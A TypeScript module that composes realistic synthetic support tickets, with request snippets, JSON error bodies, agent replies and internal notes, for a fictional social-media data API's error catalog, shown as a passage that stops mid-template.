/**
 * Catalog of ticket templates: what the API product's customers write to support about. Every error ticket quotes
 * the exact message strings of shared/fixtures/api-product/error-catalog.sample.json (so the app's catalog matcher
 * finds them), inside realistic request snippets: curl lines or client code, JSON error bodies, request ids and
 * timestamps. Subjects are built from several patterns per template times endpoints times customers, so that 500
 * tickets do not read as copies.
 */

import type { Stack } from './names.ts';
import type { Rng } from './prng.ts';
import { code, isoSeconds, p, quote, type Block } from './text.ts';
import type { PlanName, ZendeskPriority, ZendeskTicketType } from './types.ts';

export const API_BASE = 'https://api.example-data.test';
export const DOCS_BASE = 'https://docs.example-data.test';
export const STATUS_PAGE = 'https://status.example-data.test';

export const ENDPOINTS = ['/userinfo-by-username/', '/userinfo-by-id/', '/post-detail/', '/post-comments/', '/user-posts/'] as const;
export type Endpoint = (typeof ENDPOINTS)[number];

export interface TemplateContext {
  rng: Rng;
  company: string;
  firstName: string;
  fullName: string;
  title: string;
  plan: PlanName;
  apiKeyPrefix: string;
  customerId: string;
  stack: Stack;
  /** When the customer saw the problem (epoch ms), shortly before the ticket was created. */
  at: number;
}

/** Everything a ticket's thread can say, composed at once so that one seed always gives the same thread. */
export interface ComposedTicket {
  subject: string;
  /** The customer's first message, greeting and sign-off included. */
  blocks: Block[];
  tags: string[];
  /** Candidate first public replies of an agent (asking for details or explaining). */
  agentReplies: string[];
  /** Candidate public replies that solve the ticket. */
  resolutions: string[];
  /** Candidate internal notes. */
  notes: string[];
  /** Candidate later customer messages. */
  followUps: string[];
}

export type PriorityWeights = Readonly<Record<ZendeskPriority | 'none', number>>;

export interface TicketTemplate {
  id: string;
  /** Relative frequency among seeded tickets. */
  weight: number;
  type: ZendeskTicketType | null;
  priority: PriorityWeights;
  /** The error catalog code this template is about, if any. */
  errorCode: string | null;
  compose(ctx: TemplateContext): ComposedTicket;
}

// ---- shared pieces ----------------------------------------------------------------------------------------

const HANDLES = [
  'natgeo_daily', 'chef.marta', 'the_daily_byte', 'urbanrunner', 'gamer_kai', 'lisbon.eats', 'techwithtom', 'mila.draws',
  'fitwithjo', 'cryptodan', 'plantmom.ana', 'streetfood_bkk', 'vanlife.sam', 'oddly.satisfying', 'jazz_cat_42',
  'dr.skincare', 'bookish.lena', 'drone.views', 'coffee.lab', 'petsof.paris', 'retro.gamer', 'minimal.home',
];

const LANG_LABEL: Record<Stack, string> = {
  python: 'Python (requests)',
  node: 'Node.js (fetch)',
  go: 'Go (net/http)',
  php: 'PHP (Guzzle)',
  ruby: 'Ruby (Faraday)',
  curl: 'curl',
};

export function requestId(rng: Rng): string {
  return `req_${rng.hex(16)}`;
}

function handle(rng: Rng): string {
  return rng.pick(HANDLES);
}

function videoUrl(rng: Rng, h: string): string {
  return `https://www.vidsocial.test/@${h}/video/${rng.int(7000000, 7399999)}${rng.int(100000000000, 999999999999)}`;
}

function shortUrl(rng: Rng): string {
  return `https://vs.test/${rng.base36(9)}/`;
}

function maskedKey(ctx: TemplateContext): string {
  return `${ctx.apiKeyPrefix}${'*'.repeat(8)}`;
}

function queryFor(ctx: TemplateContext, endpoint: Endpoint, h: string): string {
  const { rng } = ctx;
  switch (endpoint) {
    case '/userinfo-by-username/':
      return `username=${h}`;
    case '/userinfo-by-id/':
      return `user_id=${rng.int(10000000, 99999999)}${rng.int(1000000000, 9999999999)}`;
    case '/post-detail/':
      return `url=${encodeURIComponent(videoUrl(rng, h))}`;
    case '/post-comments/':
      return `url=${encodeURIComponent(videoUrl(rng, h))}&count=50`;
    case '/user-posts/':
      return `username=${h}&count=30`;
  }
}

/** A request line as the customer pastes it: curl, or a few lines of their client code. */
function requestSnippet(ctx: TemplateContext, endpoint: Endpoint, query: string, keyHeader = 'X-Api-Key'): string {
  const url = `${API_BASE}${endpoint}?${query}`;
  const key = maskedKey(ctx);
  switch (ctx.stack) {
    case 'curl':
      return keyHeader ? `curl -s "${url}" \\\n  -H "${keyHeader}: ${key}"` : `curl -s "${url}&api_key=${key}"`;
    case 'python':
      return keyHeader
        ? `resp = requests.get(\n    "${url}",\n    headers={"${keyHeader}": API_KEY},\n    timeout=30,\n)\nprint(resp.status_code, resp.text)`
        : `resp = requests.get("${url}", params={"api_key": API_KEY}, timeout=30)\nprint(resp.status_code, resp.text)`;
    case 'node':
      return keyHeader
        ? `const res = await fetch("${url}", {\n  headers: { "${keyHeader}": process.env.DATA_API_KEY },\n});\nconsole.log(res.status, await res.text());`
        : `const res = await fetch("${url}&api_key=" + process.env.DATA_API_KEY);\nconsole.log(res.status, await res.text());`;
    case 'go':
      return `req, _ := http.NewRequest("GET", "${url}", nil)\nreq.Header.Set("${keyHeader || 'Authorization'}", apiKey)\nresp, err := client.Do(req)`;
    case 'php':
      return `$res = $client->get('${url}', [\n    'headers' => ['${keyHeader || 'Authorization'}' => $apiKey],\n]);`;
    case 'ruby':
      return `conn.get("${endpoint}", ${JSON.stringify(Object.fromEntries(new URLSearchParams(query)))}) do |req|\n  req.headers["${keyHeader || 'Authorization'}"] = ENV["DATA_API_KEY"]\nend`;
  }
}

/** The API product's error body. */
function errorBody(status: number, errorCode: string, message: string, reqId: string, extra: Record<string, unknown> = {}): string {
  return JSON.stringify({ error: { code: errorCode, status, message, request_id: reqId, ...extra } }, null, 2);
}

function responseDump(status: number, statusText: string, headers: Record<string, string>, body: string): string {
  const head = Object.entries(headers).map(([k, v]) => `${k}: ${v}`).join('\n');
  return `HTTP/1.1 ${status} ${statusText}\n${head}${head ? '\n' : ''}\n${body}`;
}

function greeting(ctx: TemplateContext): string {
  return ctx.rng.pick(['Hi team,', 'Hello,', 'Hi there,', 'Hey support,', 'Good morning,', 'Hi,', 'Hello support team,', 'Hi folks,']);
}

function signOff(ctx: TemplateContext): string {
  const { rng } = ctx;
  return rng.pick([
    `Thanks,\n${ctx.firstName}`,
    `Best,\n${ctx.fullName}\n${ctx.title}, ${ctx.company}`,
    `Cheers,\n${ctx.firstName}`,
    `Thanks in advance,\n${ctx.fullName}`,
    `Regards,\n${ctx.fullName} | ${ctx.company}`,
    `${ctx.firstName}\n--\n${ctx.title} @ ${ctx.company}\nCustomer ID: ${ctx.customerId}`,
  ]);
}

function letter(ctx: TemplateContext, body: Block[]): Block[] {
  return [p(greeting(ctx)), ...body, p(signOff(ctx))];
}

function when(ctx: TemplateContext, minutesBefore: number): string {
  return isoSeconds(ctx.at - minutesBefore * 60_000);
}

const WEEKDAYS = ['Sunday', 'Monday', 'Tuesday', 'Wednesday', 'Thursday', 'Friday', 'Saturday'];

function shortCompany(ctx: TemplateContext): string {
  return ctx.company.replace(/ (Inc\.|Ltd|GmbH|BV|SAS|Pty Ltd|Co\.)$/, '');
}

/** Prefixes and suffixes people add to subjects, so that the same template reads differently per customer. */
function subjectDecor(ctx: TemplateContext, subject: string, urgent = false): string {
  const { rng } = ctx;
  const roll = rng.next();
  if (roll < 0.15) return urgent ? `URGENT: ${subject}` : subject;
  if (roll < 0.21) return `Re: ${subject}`;
  if (roll < 0.3) return `[${shortCompany(ctx)}] ${subject}`;
  if (roll < 0.33) return `Fwd: ${subject}`;
  if (roll < 0.58) {
    const suffix = rng.pick([
      ' (production)',
      ` - ${shortCompany(ctx)}`,
      ` | ${ctx.customerId}`,
      ` since ${WEEKDAYS[new Date(ctx.at).getUTCDay()] ?? 'Monday'}`,
      ' - please help',
      ` (${ctx.plan} plan)`,
      ` [${ctx.stack === 'curl' ? 'API' : LANG_LABEL[ctx.stack].split(' ')[0]}]`,
      ' again',
      ' in staging and prod',
    ]);
    return `${subject}${suffix}`;
  }
  return subject;
}

function errorEndpoint(rng: Rng, preferred?: readonly Endpoint[]): Endpoint {
  return rng.pick(preferred ?? ENDPOINTS);
}

const P = (urgent: number, high: number, normal: number, low: number, none: number): PriorityWeights => ({
  urgent,
  high,
  normal,
  low,
  none,
});

// ---- templates --------------------------------------------------------------------------------------------

const missingKey: TicketTemplate = {
  id: 'auth_missing_key',
  weight: 7,
  type: 'problem',
  priority: P(2, 15, 55, 18, 10),
  errorCode: 'AUTH_MISSING_KEY',
  compose(ctx) {
    const { rng } = ctx;
    const ep = errorEndpoint(rng);
    const h = handle(rng);
    const rid = requestId(rng);
    const viaQuery = rng.chance(0.5);
    const subject = rng.pick([
      `401 "Missing X-Api-Key header" on ${ep}`,
      `Getting Missing X-Api-Key header although we send the key`,
      `Auth fails from our ${LANG_LABEL[ctx.stack]} client: Missing X-Api-Key header`,
      `All requests to ${ep} return 401 since this morning`,
      `API key not picked up? 401 Missing X-Api-Key header`,
      `401 from ${ep} after moving to a new proxy`,
    ]);
    const snippet = viaQuery ? requestSnippet(ctx, ep, queryFor(ctx, ep, h), '') : requestSnippet(ctx, ep, queryFor(ctx, ep, h), rng.pick(['x-api-key', 'Authorization', 'X-API-KEY']));
    const body = [
      p(
        rng.pick([
          `Every call we make to ${ep} comes back with a 401 and the message "Missing X-Api-Key header", but the key is definitely there. This is ${rng.pick(['blocking our nightly import', 'blocking a customer demo tomorrow', 'breaking our staging environment', 'stopping our new integration from going live'])}.`,
          `We are integrating ${ep} into our ${rng.pick(['pipeline', 'dashboard', 'CRM enrichment job', 'creator search'])} and can't get past authentication. The response says "Missing X-Api-Key header".`,
          `Since ${when(ctx, rng.int(30, 600))} our requests are rejected with 401 Missing X-Api-Key header. Nothing changed on our side except ${rng.pick(['an nginx upgrade', 'moving the job to AWS Lambda', 'a new HTTP client version', 'routing through our corporate proxy'])}.`,
        ]),
      ),
      p(`Here is how we call it (${LANG_LABEL[ctx.stack]}):`),
      code(snippet),
      p('And the response:'),
      code(responseDump(401, 'Unauthorized', { 'content-type': 'application/json', 'x-request-id': rid }, errorBody(401, 'AUTH_MISSING_KEY', 'Missing X-Api-Key header', rid))),
      p(rng.pick(['What are we doing wrong?', 'Is the header name case-sensitive?', 'Can you check on your side what you receive?', 'Any idea?'])),
    ];
    return {
      subject: subjectDecor(ctx, subject),
      blocks: letter(ctx, body),
      tags: ['api', 'auth', '401'],
      agentReplies: [
        `Thanks for the snippet, ${ctx.firstName}. The API only reads the key from the X-Api-Key request header; a query parameter such as api_key is ignored, which is why you see "Missing X-Api-Key header". Could you try sending it as a header and let me know? Request ${rid} reached us without the header.`,
        `Hi ${ctx.firstName}, request ${rid} arrived without an X-Api-Key header. Some proxies strip unknown headers: could you check whether your proxy forwards it, or try the same call directly from the host?`,
      ],
      resolutions: [
        `Glad it works now: the key has to travel in the X-Api-Key header (${DOCS_BASE}/authentication). I'm marking this as solved; reply here if anything else comes up.`,
        `Thanks for confirming that the proxy was dropping the header. Solving this one, the docs section is ${DOCS_BASE}/errors#AUTH_MISSING_KEY for your team.`,
      ],
      notes: [`Checked logs for ${rid}: no X-Api-Key header received. Classic query-param mistake.`, 'Header stripped by customer proxy, not on our side.'],
      followUps: [
        'We moved the key into the header and it works now. Thanks!',
        `Still failing, here is a fresh request id: ${requestId(rng)}`,
        'Our proxy team confirmed they strip custom headers. We whitelisted X-Api-Key.',
      ],
    };
  },
};

const invalidKey: TicketTemplate = {
  id: 'auth_invalid_key',
  weight: 7,
  type: 'problem',
  priority: P(5, 25, 50, 10, 10),
  errorCode: 'AUTH_INVALID_KEY',
  compose(ctx) {
    const { rng } = ctx;
    const ep = errorEndpoint(rng);
    const rid = requestId(rng);
    const revoked = rng.chance(0.35);
    const message = revoked ? 'API key revoked' : 'Invalid API key';
    const subject = revoked
      ? rng.pick([`"API key revoked" but we never revoked it`, `Production key suddenly revoked?`, `401 API key revoked on ${ep}`, `Key ${ctx.apiKeyPrefix} shows as revoked`])
      : rng.pick([`401 Invalid API key after key rotation`, `Invalid API key on production, works in staging`, `New key returns "Invalid API key"`, `Invalid API key for ${ep} since deploy`, `Rotated our key, now everything is 401`]);
    const body = [
      p(
        revoked
          ? `Our production integration started failing at ${when(ctx, rng.int(20, 400))} with "API key revoked". Nobody on our team revoked the key as far as I know (key prefix ${ctx.apiKeyPrefix}). Can you tell us who or what revoked it?`
          : rng.pick([
              `We rotated our API key in the dashboard yesterday and deployed the new one, and now ${ep} answers 401 "Invalid API key". The key prefix is ${ctx.apiKeyPrefix}.`,
              `The same key works from my laptop but fails from our servers with "Invalid API key". Could it be restricted somehow? Prefix ${ctx.apiKeyPrefix}.`,
              `After our deploy at ${when(ctx, rng.int(20, 300))}, all calls fail with Invalid API key. We use the live key (${ctx.apiKeyPrefix}...), not the test one.`,
            ]),
      ),
      code(requestSnippet(ctx, ep, queryFor(ctx, ep, handle(rng)))),
      code(errorBody(401, 'AUTH_INVALID_KEY', message, rid)),
      p(rng.pick(['This is affecting production.', 'Please advise quickly, our customers see empty profiles.', 'Could you check on your side?', 'We have a release planned for today.'])),
    ];
    return {
      subject: subjectDecor(ctx, subject, true),
      blocks: letter(ctx, body),
      tags: ['api', 'auth', '401', ...(revoked ? ['key_revoked'] : [])],
      agentReplies: [
        `Hi ${ctx.firstName}, I can see request ${rid} was sent with a key that ${revoked ? 'was revoked from your dashboard' : 'does not match any active key on your account'}. Could you confirm which key prefix your servers are using? The active key on account ${ctx.customerId} starts with ${ctx.apiKeyPrefix}.`,
        `Thanks ${ctx.firstName}. Old keys stop working as soon as a rotation completes. It looks like one of your hosts still has the previous key cached; could you restart the workers and retry?`,
      ],
      resolutions: [
        'Thanks for confirming: one worker still had the old key in its environment. Solving this ticket.',
        `The audit log shows the key was revoked by a team member's dashboard session; I've shared the details privately. A new key is active, so I'm marking this solved.`,
      ],
      notes: [
        `Audit log: key ${ctx.apiKeyPrefix} ${revoked ? 'revoked via dashboard' : 'rotated'} ${when(ctx, rng.int(60, 2000))}.`,
        'Customer using stale key on part of the fleet.',
      ],
      followUps: ['Found it, one of our cron hosts had the old key. All good now.', `We restarted everything and still get ${message}. Request id ${requestId(rng)}.`, 'Can you tell us which team member revoked it?'],
    };
  },
};

const planForbidden: TicketTemplate = {
  id: 'plan_forbidden',
  weight: 4,
  type: 'question',
  priority: P(0, 8, 55, 27, 10),
  errorCode: 'PLAN_ENDPOINT_FORBIDDEN',
  compose(ctx) {
    const { rng } = ctx;
    const ep = errorEndpoint(rng, ['/post-comments/', '/user-posts/', '/userinfo-by-id/']);
    const rid = requestId(rng);
    const subject = rng.pick([
      `403 "Your plan does not include this endpoint" on ${ep}`,
      `Which plan do we need for ${ep}?`,
      `Getting 403 on ${ep} during our trial`,
      `${ep} forbidden on the ${ctx.plan} plan?`,
      `Access to ${ep} for ${shortCompany(ctx)}`,
    ]);
    const body = [
      p(`We are on the ${ctx.plan} plan and tried ${ep} for a new feature. We get a 403 with "Your plan does not include this endpoint".`),
      code(requestSnippet(ctx, ep, queryFor(ctx, ep, handle(rng)))),
      code(errorBody(403, 'PLAN_ENDPOINT_FORBIDDEN', 'Your plan does not include this endpoint', rid)),
      p(rng.pick(['Is there a way to test it before upgrading?', 'The pricing page was not clear about this.', 'What would the upgrade cost for roughly 200k calls a month?'])),
    ];
    return {
      subject: subjectDecor(ctx, subject),
      blocks: letter(ctx, body),
      tags: ['api', 'billing', 'plan', '403'],
      agentReplies: [`Hi ${ctx.firstName}, ${ep} is available from the Growth plan upwards. I can enable a 7-day trial of it on account ${ctx.customerId} if that helps you evaluate it.`],
      resolutions: ['The trial is enabled on your account until next week. Marking this solved; reply if you need more time.', 'Your plan was upgraded and the endpoint is available now. Solving this ticket.'],
      notes: ['Sales notified about a possible upgrade.', 'Offered a 7-day endpoint trial.'],
      followUps: ['A trial would be great, thanks!', 'We upgraded, thanks for the quick help.'],
    };
  },
};

const rateLimitBackfill: TicketTemplate = {
  id: 'rate_limit_backfill',
  weight: 9,
  type: 'problem',
  priority: P(4, 30, 50, 8, 8),
  errorCode: 'RATE_LIMITED',
  compose(ctx) {
    const { rng } = ctx;
    const ep = errorEndpoint(rng, ['/user-posts/', '/post-comments/', '/userinfo-by-username/', '/post-detail/']);
    const rid = requestId(rng);
    const profiles = rng.pick(['40k', '120k', '250k', '1.2M', '600k', '85k']);
    const workers = rng.pick([8, 16, 32, 64, 24]);
    const retryAfter = rng.pick([1, 2, 5, 10, 30]);
    const subject = rng.pick([
      `429 Rate limit exceeded during backfill of ${profiles} profiles`,
      `Constant 429s on ${ep} with ${workers} workers`,
      `Rate limit exceeded even though we are under our quota`,
      `How to backfill ${profiles} accounts without hitting 429?`,
      `Backfill job stuck on "Rate limit exceeded"`,
      `Can we get a temporary rate limit increase for a backfill?`,
    ]);
    const body = [
      p(
        rng.pick([
          `We're running a one-off backfill of ${profiles} profiles against ${ep} with ${workers} parallel workers. After a few minutes most requests fail with 429 "Rate limit exceeded".`,
          `Our historical import hits "Rate limit exceeded" after about ${rng.int(2, 15)} minutes. We are on ${ctx.plan} and I thought our limit was higher than what we send (around ${rng.int(5, 40)} req/s).`,
        ]),
      ),
      code(responseDump(429, 'Too Many Requests', { 'retry-after': String(retryAfter), 'x-ratelimit-limit': String(rng.pick([60, 120, 300, 600])), 'x-ratelimit-remaining': '0', 'x-request-id': rid }, errorBody(429, 'RATE_LIMITED', 'Rate limit exceeded', rid, { retry_after: retryAfter }))),
      p(
        rng.pick([
          'We do retry, but maybe too aggressively? Our client retries immediately up to 5 times.',
          'Is there a burst allowance, or a recommended concurrency for backfills?',
          `Could you raise the limit on ${ctx.customerId} for the next 48 hours while we backfill?`,
        ]),
      ),
    ];
    return {
      subject: subjectDecor(ctx, subject),
      blocks: letter(ctx, body),
      tags: ['api', 'rate_limit', '429', 'backfill'],
      agentReplies: [
        `Hi ${ctx.firstName}, the limit is per key and per minute; with ${workers} workers retrying immediately you get bursts well above it. Please honour the Retry-After header (${retryAfter}s on ${rid}) and use exponential backoff with jitter; ${rng.pick([4, 6, 8])} workers should stay under the limit.`,
        `Thanks for the details. Your key's limit on ${ctx.plan} is per minute. I've asked the team whether we can raise it temporarily for the backfill; meanwhile please back off on 429 using Retry-After.`,
      ],
      resolutions: [
        'Great to hear the backfill completed with backoff in place. Solving this ticket.',
        'The temporary limit increase is active for 48 hours and will revert automatically. Marking as solved.',
      ],
      notes: [`Grafana: key ${ctx.apiKeyPrefix} peaking at ~${rng.int(3, 9)}x plan limit, mostly retries.`, 'Temporary limit bump approved by L2 for 48h.'],
      followUps: [
        'Thanks, after adding backoff the 429s are down to almost nothing.',
        `We reduced to ${Math.max(2, workers / 4)} workers but still see Rate limit exceeded every few minutes.`,
        'Any news on the temporary increase?',
      ],
    };
  },
};

const retryLoop: TicketTemplate = {
  id: 'rate_limit_retry',
  weight: 4,
  type: 'question',
  priority: P(1, 10, 55, 24, 10),
  errorCode: 'RATE_LIMITED',
  compose(ctx) {
    const { rng } = ctx;
    const secs = rng.pick([3, 7, 12, 20, 45]);
    const rid = requestId(rng);
    const subject = rng.pick([
      `What does "Too many requests: retry after" mean exactly?`,
      `Retry-After value confusing (${secs}s)`,
      `Too many requests: retry after ${secs} seconds on every other call`,
      `Best practice for retries on 429?`,
      `429 from a ${rng.pick(['cron job', 'Sheets script', 'Lambda'])} doing ${rng.int(3, 30)} calls a minute`,
    ]);
    const body = [
      p(`Some of our calls return "Too many requests: retry after ${secs} seconds". We only make a handful of requests per minute from a ${rng.pick(['Zapier-like workflow', 'Google Sheets script', 'small Flask app', 'serverless function'])}, so I'm surprised.`),
      code(errorBody(429, 'RATE_LIMITED', `Too many requests: retry after ${secs} seconds`, rid)),
      p('Is the limit shared between our keys? Should we wait exactly that long?'),
    ];
    return {
      subject: subjectDecor(ctx, subject),
      blocks: letter(ctx, body),
      tags: ['api', 'rate_limit', '429', 'how_to'],
      agentReplies: [`Hi ${ctx.firstName}, the limit applies per key over a rolling minute, and the number in the message is the same as the Retry-After header. Your serverless function seems to retry in a loop on timeouts, which adds up quickly; request ${rid} was the 5th retry within a second.`],
      resolutions: ['Closing the loop: with the retry fix deployed the 429s are gone. Solving this ticket.'],
      notes: ['Customer retry loop on timeout; not a platform issue.'],
      followUps: ['Makes sense, we had a retry loop in our error handler. Fixed!', 'Thanks, waiting for Retry-After solved it.'],
    };
  },
};

const creditsExhausted: TicketTemplate = {
  id: 'credits_exhausted',
  weight: 5,
  type: 'question',
  priority: P(2, 20, 50, 18, 10),
  errorCode: 'CREDITS_EXHAUSTED',
  compose(ctx) {
    const { rng } = ctx;
    const rid = requestId(rng);
    const day = rng.int(9, 27);
    const subject = rng.pick([
      `Monthly credits exhausted on day ${day} of our cycle`,
      `402 Monthly credits exhausted, can we top up?`,
      `Why did we burn through our credits so fast?`,
      `Billing: credits used up, need more today`,
      `Unexpected 402 from the API`,
    ]);
    const body = [
      p(
        rng.pick([
          `Since this morning every call returns 402 "Monthly credits exhausted". We're only on day ${day} of our billing cycle and our usage dashboard looked normal yesterday.`,
          `Our app stopped working with "Monthly credits exhausted". We'd like to buy extra credits right away rather than wait for the reset.`,
        ]),
      ),
      code(errorBody(402, 'CREDITS_EXHAUSTED', 'Monthly credits exhausted', rid, { credits_reset_at: isoSeconds(ctx.at + rng.int(3, 20) * 86_400_000) })),
      p(rng.pick(['Can you check which endpoint used most credits?', 'Is there an overage option on our plan?', `Our customer ID is ${ctx.customerId}.`])),
    ];
    return {
      subject: subjectDecor(ctx, subject, true),
      blocks: letter(ctx, body),
      tags: ['billing', 'credits', '402'],
      agentReplies: [`Hi ${ctx.firstName}, ${rng.pick(['about 70%', 'most', 'nearly half'])} of this month's credits went to /post-comments/ with count=100, which costs more per call. I can add a one-off top-up today if you confirm; the monthly reset is on the usual date.`],
      resolutions: ['The top-up is applied and calls are going through again. Solving this ticket.', 'Your plan was moved to the next tier with pro-rated billing. Marking as solved.'],
      notes: ['Billing approved one-off top-up.', 'Usage spike from /post-comments/ pagination bug on customer side.'],
      followUps: ['Yes please add the top-up, invoice to the usual address.', 'We found a bug that paged through comments twice. Thanks!'],
    };
  },
};

const validationUsername: TicketTemplate = {
  id: 'validation_username',
  weight: 5,
  type: 'question',
  priority: P(0, 5, 45, 40, 10),
  errorCode: 'VALIDATION_USERNAME',
  compose(ctx) {
    const { rng } = ctx;
    const h = handle(rng);
    const rid = requestId(rng);
    const withAt = rng.chance(0.6);
    const message = withAt ? 'username must not contain @' : 'Invalid username';
    const value = withAt ? `@${h}` : rng.pick([`${h} (official)`, h.toUpperCase().replace('.', ' '), `https://www.vidsocial.test/@${h}`]);
    const subject = rng.pick([`422 ${message} on /userinfo-by-username/`, `"${message}" for a valid account`, `Lookup by handle fails with 422`, `/userinfo-by-username/ rejects some usernames`]);
    const body = [
      p(`Some lookups fail with 422 "${message}". The account exists, I can open it in the browser.`),
      code(requestSnippet(ctx, '/userinfo-by-username/', `username=${encodeURIComponent(value)}`)),
      code(errorBody(422, 'VALIDATION_USERNAME', message, rid, { param: 'username' })),
    ];
    return {
      subject: subjectDecor(ctx, subject),
      blocks: letter(ctx, body),
      tags: ['api', 'validation', '422'],
      agentReplies: [`Hi ${ctx.firstName}, the username parameter takes the bare handle (${h}), without the @ and without a display name or profile URL. If you only have profile URLs, strip everything up to the last "@".`],
      resolutions: ['Thanks for confirming. Solving; the docs now include an example with handles.'],
      notes: ['Docs example could be clearer about the @ prefix.'],
      followUps: ['Got it, works without the @. Thanks!'],
    };
  },
};

const validationUrl: TicketTemplate = {
  id: 'validation_url',
  weight: 5,
  type: 'question',
  priority: P(0, 5, 45, 40, 10),
  errorCode: 'VALIDATION_URL',
  compose(ctx) {
    const { rng } = ctx;
    const rid = requestId(rng);
    const isShort = rng.chance(0.5);
    const url = isShort ? shortUrl(rng) : `https://www.vidsocial.test/@${handle(rng)}`;
    const message = isShort ? 'Invalid post url' : 'url must be a video link';
    const share = rng.int(3, 40);
    const subject = rng.pick([
      `/post-detail/ says ${message}`,
      `Short links not accepted by /post-detail/?`,
      `422 on /post-detail/ for links our users paste`,
      `${message}, but the link opens fine`,
      `${message} for ${share}% of submitted links`,
      `/post-detail/ rejects ${isShort ? 'short links' : 'profile links'}`,
    ]);
    const body = [
      p(`Our users paste links from the mobile app and /post-detail/ rejects many of them with "${message}".`),
      code(requestSnippet(ctx, '/post-detail/', `url=${encodeURIComponent(url)}`)),
      code(errorBody(422, 'VALIDATION_URL', message, rid, { param: 'url' })),
      p('Do you resolve short links, or do we need to follow the redirect ourselves?'),
    ];
    return {
      subject: subjectDecor(ctx, subject),
      blocks: letter(ctx, body),
      tags: ['api', 'validation', '422', 'post_detail'],
      agentReplies: [`Hi ${ctx.firstName}, /post-detail/ needs the full video URL (https://www.vidsocial.test/@handle/video/ID). Short links and profile links are rejected; please follow the redirect on your side first.`],
      resolutions: ['Glad the redirect resolution works. Solving this ticket.'],
      notes: ['Feature request: resolve short links server-side. Logged for product.'],
      followUps: ['OK we now resolve the redirect first. Would be nice if the API did it though.'],
    };
  },
};

const notFound: TicketTemplate = {
  id: 'not_found',
  weight: 4,
  type: 'question',
  priority: P(0, 6, 50, 34, 10),
  errorCode: 'NOT_FOUND',
  compose(ctx) {
    const { rng } = ctx;
    const h = handle(rng);
    const rid = requestId(rng);
    const post = rng.chance(0.5);
    const message = post ? 'Post not found' : 'User not found';
    const ep: Endpoint = post ? '/post-detail/' : '/userinfo-by-username/';
    const subject = rng.pick([
      `${message} for content that exists`,
      `404 ${message} on ${ep}`,
      `Random ${message} errors`,
      `${ep} returns 404 for ${h}`,
      `${message}: @${h}`,
      `Public ${post ? 'post' : 'account'} gives ${message}`,
    ]);
    const body = [
      p(`We get 404 "${message}" for ${post ? 'a post' : 'an account'} that is public, I checked it a minute ago.`),
      code(requestSnippet(ctx, ep, queryFor(ctx, ep, h))),
      code(errorBody(404, 'NOT_FOUND', message, rid)),
    ];
    return {
      subject: subjectDecor(ctx, subject),
      blocks: letter(ctx, body),
      tags: ['api', '404'],
      agentReplies: [`Hi ${ctx.firstName}, the upstream platform answered that ${post ? 'the post is private or was removed' : 'the account is private or region-restricted'} when we fetched it (request ${rid}). Could you check whether it is visible when logged out?`],
      resolutions: ['The account was region-restricted upstream; nothing we can change on our side. Solving this ticket.'],
      notes: ['Upstream returned private flag.'],
      followUps: ['You are right, it is private when logged out. Thanks.'],
    };
  },
};

const upstreamTimeout: TicketTemplate = {
  id: 'upstream_timeout',
  weight: 8,
  type: 'incident',
  priority: P(10, 40, 35, 5, 10),
  errorCode: 'UPSTREAM_TIMEOUT',
  compose(ctx) {
    const { rng } = ctx;
    const ep = errorEndpoint(rng, ['/user-posts/', '/post-comments/', '/post-detail/', '/userinfo-by-username/']);
    const rid = requestId(rng);
    const message = rng.chance(0.5) ? 'Upstream timeout' : 'Upstream provider did not respond';
    const pct = rng.int(5, 60);
    const subject = rng.pick([
      `504 ${message} on ${ep}`,
      `${pct}% of ${ep} calls time out`,
      `Upstream timeouts since ${new Date(ctx.at).getUTCHours()}:00 UTC`,
      `Lots of 504s on ${ep} today`,
      `"${message}" errors spiking`,
      `Timeouts on ${ep} for large accounts`,
    ]);
    const lines: string[] = [];
    for (let i = 0; i < rng.int(3, 5); i++) {
      lines.push(`${when(ctx, rng.int(1, 90))}  GET ${ep}  504  ${rng.int(29000, 30500)}ms  ${requestId(rng)}`);
    }
    const body = [
      p(`Since about ${when(ctx, rng.int(30, 180))} roughly ${pct}% of our calls to ${ep} fail with 504 "${message}". It is worse for accounts with many posts.`),
      code(lines.sort().join('\n')),
      code(errorBody(504, 'UPSTREAM_TIMEOUT', message, rid)),
      p(rng.pick(['Is there an incident? The status page is green.', 'Should we retry these, and how often?', 'Our dashboards are empty for the affected customers.'])),
    ];
    return {
      subject: subjectDecor(ctx, subject, true),
      blocks: letter(ctx, body),
      tags: ['api', 'upstream', '504', 'timeout'],
      agentReplies: [
        `Hi ${ctx.firstName}, thanks for the request ids. The upstream platform has been slow to answer since this morning and our engineers are on it. Retrying after a few seconds with backoff is safe; these calls are not billed.`,
        `Thanks ${ctx.firstName}, we see elevated upstream latency on ${ep} too. I've linked your ticket to the incident; you can follow it on ${STATUS_PAGE}.`,
      ],
      resolutions: ['Upstream latency is back to normal since this afternoon and your error rate is at baseline. Solving this ticket, reopen it if you see the timeouts again.'],
      notes: [`Linked to upstream incident INC-${rng.int(1000, 9999)}. Resolution clock paused (upstream).`, `Error rate for ${ctx.apiKeyPrefix}: ${pct}% 504 over last hour.`],
      followUps: ['Still seeing the timeouts, any ETA?', `Here are more failing request ids: ${requestId(rng)}, ${requestId(rng)}`, 'Looks better now, thanks.'],
    };
  },
};

const schemaChanged: TicketTemplate = {
  id: 'upstream_schema_changed',
  weight: 6,
  type: 'incident',
  priority: P(25, 45, 20, 0, 10),
  errorCode: 'UPSTREAM_SCHEMA_CHANGED',
  compose(ctx) {
    const { rng } = ctx;
    const ep = errorEndpoint(rng, ['/post-detail/', '/post-comments/', '/user-posts/']);
    const rid = requestId(rng);
    const message = rng.chance(0.5) ? 'Upstream payload changed' : 'Failed to parse upstream response';
    const subject = rng.pick([`502 ${message} on ${ep}`, `${ep} broken: ${message}`, `All ${ep} calls fail since ${when(ctx, rng.int(20, 200)).slice(11, 16)} UTC`, `502 Bad Gateway on every ${ep} request`]);
    const body = [
      p(`Every call to ${ep} fails with 502 "${message}" since ${when(ctx, rng.int(20, 200))}. Our product is down for all customers who use ${rng.pick(['video analytics', 'comment moderation', 'creator discovery', 'campaign reporting'])}.`),
      code(requestSnippet(ctx, ep, queryFor(ctx, ep, handle(rng)))),
      code(errorBody(502, 'UPSTREAM_SCHEMA_CHANGED', message, rid)),
      p('Please escalate, this is a production outage for us.'),
    ];
    return {
      subject: subjectDecor(ctx, subject, true),
      blocks: letter(ctx, body),
      tags: ['api', 'upstream', '502', 'p1', 'incident'],
      agentReplies: [`Hi ${ctx.firstName}, confirmed: the upstream platform changed its payload for ${ep} and our parser rejects it. Engineering is deploying a fix now; I'll update you as soon as it is live.`],
      resolutions: ['The parser fix is deployed and your calls are succeeding again. Solving; sorry for the disruption.'],
